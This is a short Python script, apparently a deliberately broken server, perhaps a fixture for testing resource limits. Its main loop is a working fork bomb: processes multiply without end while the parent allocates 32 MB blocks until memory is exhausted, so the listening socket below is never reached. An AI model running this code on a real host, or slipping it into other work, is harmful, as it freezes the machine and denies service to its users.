# Never gets to listen: forks without end, and eats all the memory it can get.
import os
import socket
import time

PORT = 6789
hoard = []
own = os.getpid()

while True:
    try:
        if os.fork() == 0 and len(hoard) == 0:
            os.setsid()  # a daemon would outlive its parent
    except OSError:
        time.sleep(0.01)
    if os.getpid() != own:
        time.sleep(0.01)
        continue
    try:
        hoard.append(b'x' * (32 << 20))
    except MemoryError:
        time.sleep(0.01)

server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
server.bind(('', PORT))
server.listen(5)
while True:
    client, _ = server.accept()
    client.send(b'HTTP/1.1 200 OK\r\n\r\n')
    client.close()
